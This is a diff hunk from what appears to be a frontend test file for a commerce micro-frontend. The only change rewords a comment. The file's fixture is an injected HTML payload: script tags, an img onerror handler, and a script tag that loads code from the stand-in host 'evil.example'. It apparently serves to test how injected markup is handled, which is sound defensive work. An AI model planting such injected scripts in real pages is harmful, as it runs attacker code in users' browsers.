@@ -7,7 +7,7 @@ import { DEMO } from '../support/site.ts'
 const PATH = '/more-services'
 const REMOTE = 'mf-commerce'
 const EVIL = 'https://evil.example/planted.js?key=1'
-/** As the server would have written it, if somebody had got his own words into a page. */
+/** As the server would have written it, if a stranger had got his own words into a page. */
 const WRITTEN = `<script>0</script><p style="color:red">x</p><img src="data:," onerror="0" alt=""><style>p{}</style><script src="${EVIL}"></script>`
 /** What a browser makes of it, and of code that runs later: as the desk shows it. */
 const TOLD = [
